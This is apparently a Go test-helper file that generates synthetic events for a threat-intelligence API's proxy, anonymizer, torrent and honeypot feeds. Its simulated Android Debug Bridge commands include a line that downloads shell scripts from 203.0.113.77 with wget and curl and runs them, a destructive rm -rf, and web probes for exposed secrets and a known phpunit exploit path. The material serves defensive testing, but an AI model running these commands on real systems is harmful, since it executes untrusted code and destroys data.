package synthienttest

import (
	"crypto/md5" //nolint:gosec // JA3 fingerprints are MD5 by definition
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/synthient-go/synthient"
)

// eventGen makes the events of one stream: deterministic for the stream's
// sequence number, dated by the server's clock.
type eventGen struct {
	feed synthient.Feed
	r    *rand.Rand
	form DetailsForm
	seed uint64 // the server's, for the lookups of the events' addresses
	n    int    // the events made so far

	session string // the honeypot_adb session, and its next command's number
	seq     int
}

// newEventGen returns the generator of the stream numbered n of a server
// of seed.
func newEventGen(feed synthient.Feed, n uint64, form DetailsForm, seed uint64) *eventGen {
	return &eventGen{feed: feed, r: seededRNG(seed, "stream", string(feed), strconv.FormatUint(n, 10)), form: form, seed: seed}
}

var (
	proxyCats = []string{"RESIDENTIAL_PROXY", "MOBILE_PROXY", "DATACENTER_PROXY", "PUBLIC_PROXY"}
	anonCats  = []string{"COMMERCIAL_VPN", "FREE_VPN", "ENTERPRISE_VPN", "TOR_NODE", "PRIVATE_RELAY"}
)

// pickIP draws addresses until one whose lookup has one of cats (any
// category when cats is nil), so that the stream and a lookup agree; it
// gives up after a while and makes up a provider.
func (g *eventGen) pickIP(now time.Time, cats []string) (netip.Addr, synthient.IPLookup, string, string) {
	for range 200 {
		a := randomPublicIP(g.r)
		l := lookupIP(a, now, g.seed)
		if l.Intelligence == nil {
			continue
		}
		for _, p := range l.Intelligence.Providers {
			if cats == nil || slices.Contains(cats, p.Type) {
				return a, l, p.Provider, p.Type
			}
		}
	}
	a := randomPublicIP(g.r)
	p := profResProxy
	return a, lookupIP(a, now, g.seed), p.providers[g.r.IntN(len(p.providers))], p.category
}

// country is the country and ASN of a lookup; zero for an address without
// a network.
func country(l synthient.IPLookup) (string, int) {
	if l.Location == nil || l.Network == nil {
		return "", 0
	}
	return l.Location.Country, l.Network.ASN
}

var torrentNames = []struct {
	name  string
	files []string
}{
	{"ubuntu-24.04.1-desktop-amd64.iso", nil},
	{"debian-12.7.0-amd64-netinst.iso", nil},
	{"archlinux-2024.09.01-x86_64.iso", nil},
	{"Fedora-Workstation-Live-x86_64-40", []string{"Fedora-Workstation-Live-x86_64-40-1.14.iso", "Fedora-Workstation-40-1.14-x86_64-CHECKSUM"}},
	{"Big Buck Bunny", []string{"Big Buck Bunny.mp4", "Big Buck Bunny.en.srt", "poster.jpg"}},
	{"Sintel", []string{"Sintel.mp4", "Sintel.de.srt", "Sintel.en.srt", "Sintel.es.srt", "poster.jpg"}},
	{"Tears of Steel", []string{"tears_of_steel_1080p.mkv", "tears_of_steel.en.srt"}},
	{"wikipedia_en_all_maxi_2024-01.zim", nil},
	{"LibreOffice_24.8.2_Linux_x86-64_deb", []string{"LibreOffice_24.8.2_Linux_x86-64_deb.tar.gz"}},
	{"Cosmos Laundromat", []string{"Cosmos Laundromat.mp4", "Cosmos Laundromat.en.srt"}},
}

var honeypotDomains = []string{
	"www.example.com", "api.example.net", "admin.example.org", "mail.example.com",
	"staging.example.net", "vpn.example.org", "git.example.com", "cdn.example.net",
}

var scannerAgents = []string{
	"Mozilla/5.0 zgrab/0.x",
	"python-requests/2.32.3",
	"curl/8.5.0",
	"Go-http-client/1.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
}

var probes = []struct{ method, uri string }{
	{"GET", "/"}, {"GET", "/.env"}, {"GET", "/.git/config"}, {"GET", "/wp-login.php"},
	{"POST", "/xmlrpc.php"}, {"GET", "/actuator/health"}, {"GET", "/admin/config.php"},
	{"GET", "/cgi-bin/luci/;stok=/locale"}, {"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	{"GET", "/server-status"}, {"GET", "/api/v1/pods"}, {"GET", "/favicon.ico"}, {"GET", "/robots.txt"},
}

var helioPools = []struct{ pool, provider, server string }{
	{"pool-eu-1", "HETZNER", "helio-fsn1-04"},
	{"pool-eu-2", "OVH", "helio-rbx-11"},
	{"pool-us-1", "DIGITALOCEAN", "helio-nyc3-02"},
	{"pool-us-2", "VULTR", "helio-lax-07"},
	{"pool-ap-1", "LINODE", "helio-sin-03"},
}

var adbCommands = []string{
	"host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,fixed_push_symlink_timestamp,abb_exec,remount_shell,track_app,sendrecv_v2",
	"shell:getprop ro.product.model",
	"shell:uname -a",
	"shell:pm list packages",
	"shell:cd /data/local/tmp/; busybox wget http://203.0.113.77/w.sh; sh w.sh; curl -O http://203.0.113.77/c.sh; sh c.sh",
	"shell:chmod 777 /data/local/tmp/trinity; /data/local/tmp/trinity",
	"shell:echo ok",
	"shell:rm -rf /data/local/tmp/*",
	"shell:cat /proc/cpuinfo",
}

var ja4tPrints = []string{
	"64240_2-1-3-1-1-4_1460_8", "29200_2-4-8-1-3_1424_7", "65535_2-1-3-1-1-4_1460_6",
	"43080_2-4-8-1-3_1436_9", "64240_2-4-8-1-3_1460_7", "14600_2-4-8-1-3_1460_7",
}

// meta is the helio pool a honeypot event came through.
func (g *eventGen) meta() *synthient.HoneypotMeta {
	p := helioPools[g.r.IntN(len(helioPools))]
	return &synthient.HoneypotMeta{PoolID: p.pool, Provider: p.provider, ProxyIP: randomPublicIP(g.r).String(), Server: p.server}
}

// hex is n random bytes in hex.
func (g *eventGen) hex(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.r.IntN(256)) //nolint:gosec // IntN(256) is a byte
	}
	return hex.EncodeToString(b)
}

// httpsEvent is the honeypot_https event as the API sends it: raw is left
// out when the handshake was not captured.
type httpsEvent struct {
	Timestamp int64                   `json:"timestamp"`
	TunnelID  int64                   `json:"tunnel_id"`
	Domain    string                  `json:"domain"`
	Port      int                     `json:"port"`
	Details   json.RawMessage         `json:"details"`
	Raw       string                  `json:"raw,omitempty"`
	Meta      *synthient.HoneypotMeta `json:"meta"`
}

// eventTime is when an event happens: now on the server's clock, and for
// the honeypot feeds ms, up to 1.5 s earlier in milliseconds.
type eventTime struct {
	now time.Time
	ms  int64
}

// feedEvents holds the generator of each feed's events. A generator draws
// from its stream's random source in a fixed order: the pinned events
// (events_test.go) depend on it, so a change that adds, drops or reorders
// a draw changes every event that follows.
var feedEvents = map[synthient.Feed]func(g *eventGen, t eventTime) any{
	synthient.FeedProxies:       proxyEvent,
	synthient.FeedAnonymizers:   anonymizerEvent,
	synthient.FeedTorrents:      torrentEvent,
	synthient.FeedHoneypotHTTP:  honeypotHTTPEvent,
	synthient.FeedHoneypotHTTPS: honeypotHTTPSEvent,
	synthient.FeedHoneypotDNS:   honeypotDNSEvent,
	synthient.FeedHoneypotADB:   honeypotADBEvent,
	synthient.FeedJA4T:          ja4tEvent,
}

// next returns the next event as one line of JSON.
func (g *eventGen) next(now time.Time) ([]byte, error) {
	g.n++
	// Every event draws its honeypot time first, whether it uses it or not.
	t := eventTime{now: now, ms: now.UnixMilli() - int64(g.r.IntN(1500))}
	gen, ok := feedEvents[g.feed]
	if !ok {
		return nil, fmt.Errorf("no events for feed %q", g.feed)
	}
	return json.Marshal(gen(g, t))
}

// proxyEvent is a residential, mobile, datacenter or public proxy seen at
// an address whose lookup says so.
func proxyEvent(g *eventGen, t eventTime) any {
	a, l, prov, typ := g.pickIP(t.now, proxyCats)
	cc, asn := country(l)
	return synthient.ProxyEvent{IP: a.String(), Provider: prov, Type: typ, Timestamp: t.now.Unix(), CountryCode: cc, ASN: asn}
}

// anonymizerEvent is a VPN, Tor or relay range around an address whose
// lookup says so.
func anonymizerEvent(g *eventGen, t eventTime) any {
	a, l, prov, typ := g.pickIP(t.now, anonCats)
	start, end := anonRange(g.r, a)
	cc, asn := country(lookupIP(start, t.now, g.seed))
	if cc == "" {
		cc, asn = country(l)
	}
	return synthient.AnonymizerEvent{RangeStart: start.String(), RangeEnd: end.String(), Provider: prov, Type: typ,
		Timestamp: t.now.Unix(), CountryCode: cc, ASN: asn}
}

// anonRange is the range an anonymizer's address a belongs to: an aligned
// block of 16, 64 or 256 addresses of its /24, or its /64.
func anonRange(r *rand.Rand, a netip.Addr) (start, end netip.Addr) {
	if !a.Is4() {
		start = netip.PrefixFrom(a, 64).Masked().Addr()
		b := start.As16()
		for i := 8; i < 16; i++ {
			b[i] = 0xff
		}
		return start, netip.AddrFrom16(b)
	}
	b := networkPrefix(a).Addr().As4()
	size := []int{16, 64, 256}[r.IntN(3)]
	b[3] = byte(r.IntN(256/size) * size) //nolint:gosec // below 256: a multiple of size under 256
	start = netip.AddrFrom4(b)
	b[3] += byte(size - 1) //nolint:gosec // size-1 is at most 255
	return start, netip.AddrFrom4(b)
}

// torrentEvent is a well-known free torrent with its files and a few
// peers.
func torrentEvent(g *eventGen, t eventTime) any {
	r := g.r
	tn := torrentNames[r.IntN(len(torrentNames))]
	hash := g.hex(20)
	ev := synthient.TorrentEvent{InfoHash: hash, Name: tn.name, Timestamp: t.now.Unix(),
		MagnetURI:   "magnet:?xt=urn:btih:" + hash + "&dn=" + url.QueryEscape(tn.name) + "&tr=" + url.QueryEscape("udp://tracker.opentrackr.org:1337/announce"),
		PieceLength: 1 << (18 + r.IntN(5))}
	paths := tn.files
	if paths == nil {
		paths = []string{tn.name}
	}
	ev.Files, ev.TotalSize = torrentFiles(r, paths)
	ev.FileCount = len(ev.Files)
	ev.Peers = torrentPeers(r)
	return ev
}

// torrentFiles sizes a torrent's files: the first 1 MiB to 4 GiB, the
// others (subtitles, posters) up to 200 KiB. It draws a large size for
// every file before a small one for the others.
func torrentFiles(r *rand.Rand, paths []string) ([]synthient.TorrentFile, int64) {
	files := make([]synthient.TorrentFile, 0, len(paths))
	var total int64
	for i, path := range paths {
		n := int64(1<<20) + r.Int64N(4<<30)
		if i > 0 {
			n = 1024 + r.Int64N(200<<10)
		}
		files = append(files, synthient.TorrentFile{Path: path, Length: n})
		total += n
	}
	return files, total
}

// torrentPeers is 1 to 6 peers, most on the usual BitTorrent ports.
func torrentPeers(r *rand.Rand) []synthient.TorrentPeer {
	peers := []synthient.TorrentPeer{}
	for n := 1 + r.IntN(6); n > 0; n-- {
		port := 6881 + r.IntN(119)
		if r.IntN(3) == 0 {
			port = 1024 + r.IntN(64000)
		}
		peers = append(peers, synthient.TorrentPeer{IP: randomPublicIP(r).String(), Port: port,
			Source: []string{"DHT", "PEX", "TRACKER"}[r.IntN(3)], Encrypted: r.IntN(2) == 0})
	}
	return peers
}

// honeypotHTTPEvent is a scanner's probe of a honeypot web server.
func honeypotHTTPEvent(g *eventGen, t eventTime) any {
	r := g.r
	p := probes[r.IntN(len(probes))]
	dom := honeypotDomains[r.IntN(len(honeypotDomains))]
	port := []int{80, 80, 8080, 8000, 8888}[r.IntN(5)]
	host := dom
	if port != 80 {
		host += ":" + strconv.Itoa(port)
	}
	details, raw := httpRequest(p.method, p.uri, host, scannerAgents[r.IntN(len(scannerAgents))])
	return synthient.HoneypotHTTPEvent{Timestamp: t.ms, TunnelID: g.tunnelID(), Domain: dom, Port: port,
		Details: details, Raw: raw, Meta: g.meta()}
}

// httpRequest is a scanner's request as the honeypot parsed it and as it
// came on the wire.
func httpRequest(method, uri, host, ua string) (*synthient.HTTPRequestDetails, string) {
	headers := map[string]string{"Host": host, "User-Agent": ua, "Accept": "*/*", "Connection": "close"}
	raw := method + " " + uri + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + ua + "\r\nAccept: */*\r\nConnection: close\r\n"
	if method == "POST" {
		headers["Content-Type"] = "application/x-www-form-urlencoded"
		headers["Content-Length"] = "0"
		raw += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n"
	}
	raw += "\r\n"
	return &synthient.HTTPRequestDetails{Method: method, URI: uri, Version: "HTTP/1.1", Headers: headers}, raw
}

// honeypotHTTPSEvent is a TLS handshake with a honeypot: its ClientHello
// in the configured form, and most of the time the captured record.
func honeypotHTTPSEvent(g *eventGen, t eventTime) any {
	r := g.r
	dom := honeypotDomains[r.IntN(len(honeypotDomains))]
	hello := g.clientHello(dom)
	ev := httpsEvent{Timestamp: t.ms, TunnelID: g.tunnelID(), Domain: dom, Port: []int{443, 443, 8443}[r.IntN(3)],
		Details: g.details(hello), Meta: g.meta()}
	if r.IntN(4) != 0 {
		ev.Raw = tlsRecord(r)
	}
	return ev
}

// clientHello is a parsed TLS 1.3 ClientHello for sni, as a JSON object.
func (g *eventGen) clientHello(sni string) []byte {
	r := g.r
	ciphers := []int{4865, 4866, 4867, 49195, 49199, 49196, 49200, 52393, 52392, 49171, 49172, 156, 157, 47, 53}
	ciphers = ciphers[:3+r.IntN(len(ciphers)-3)]
	exts := []int{0, 23, 65281, 10, 11, 35, 16, 5, 13, 18, 51, 45, 43, 27, 17513}
	exts = exts[:6+r.IntN(len(exts)-6)]
	ja3 := md5.Sum([]byte(fmt.Sprint(ciphers, exts))) //nolint:gosec // a JA3 fingerprint is an MD5 sum by definition, not a protection
	hello := map[string]any{
		"tls_version": "TLS 1.3", "record_version": "TLS 1.0", "sni": sni,
		"cipher_suites": ciphers, "extensions": exts, "supported_groups": []int{29, 23, 24},
		"alpn": []string{"h2", "http/1.1"},
		"ja3":  hex.EncodeToString(ja3[:]),
		"ja4":  fmt.Sprintf("t13d%02d%02dh2_%s_%s", len(ciphers), len(exts), g.hex(6), g.hex(6)),
	}
	b, _ := json.Marshal(hello) // strings and ints: it cannot fail
	return b
}

// details is a ClientHello in the server's form (WithHTTPSDetails): a JSON
// string, the object, or in turn either or null.
func (g *eventGen) details(hello []byte) json.RawMessage {
	form := g.form
	if form == DetailsMixed {
		form = []DetailsForm{DetailsString, DetailsObject, -1}[g.n%3]
	}
	switch form {
	case DetailsString:
		s, _ := json.Marshal(string(hello)) // a string: it cannot fail
		return s
	case DetailsObject:
		return hello
	}
	return json.RawMessage("null")
}

// tlsRecord is a captured handshake record in base64: a TLS record header
// and 64 to 303 bytes.
func tlsRecord(r *rand.Rand) string {
	b := make([]byte, 5+64+r.IntN(240))
	for i := range b {
		b[i] = byte(r.IntN(256)) //nolint:gosec // IntN(256) is a byte
	}
	copy(b, []byte{0x16, 0x03, 0x01})
	return base64.StdEncoding.EncodeToString(b)
}

// honeypotDNSEvent is a query to a honeypot's name server, mostly on
// port 53.
func honeypotDNSEvent(g *eventGen, t eventTime) any {
	r := g.r
	base := honeypotDomains[r.IntN(len(honeypotDomains))]
	base = base[strings.IndexByte(base, '.')+1:]
	// The random label is drawn before the choice of label.
	name := []string{"_dmarc.", "wpad.", "_acme-challenge.", "mail.", "", g.hex(4) + "."}[r.IntN(6)] + base
	port := 53
	switch n := r.IntN(100); {
	case n < 8:
		port = 5353
	case n < 20:
		port = 853
	}
	return synthient.HoneypotDNSEvent{Timestamp: t.ms, TunnelID: g.tunnelID(), Domain: name, Port: port, Meta: g.meta()}
}

// honeypotADBEvent is the next command of an Android Debug Bridge
// session: a session opens with the host banner, and one event in five
// opens a new one.
func honeypotADBEvent(g *eventGen, _ eventTime) any {
	r := g.r
	if g.session == "" || r.IntN(5) == 0 {
		g.session, g.seq = "sha256:"+g.hex(32), 0
	}
	cmd := []byte(adbCommands[r.IntN(len(adbCommands))])
	if g.seq == 0 {
		cmd = []byte(adbCommands[0])
	}
	sum := sha256.Sum256(cmd)
	ev := synthient.HoneypotADBEvent{Session: g.session, SequentialID: g.seq, Command: cmd, Hash: hex.EncodeToString(sum[:])}
	g.seq++
	return ev
}

// ja4tEvent is a TCP fingerprint seen from an address, with what its
// lookup says of it.
func ja4tEvent(g *eventGen, t eventTime) any {
	a, l, prov, typ := g.pickIP(t.now, nil)
	cc, asn := country(l)
	return synthient.JA4TEvent{IP: a.String(), JA4T: ja4tPrints[g.r.IntN(len(ja4tPrints))], Provider: prov, Type: typ,
		Timestamp: t.now.Unix(), CountryCode: cc, ASN: asn}
}

// tunnelID is the id of the tunnel a honeypot event came through.
func (g *eventGen) tunnelID() int64 { return 100000 + g.r.Int64N(9_900_000) }
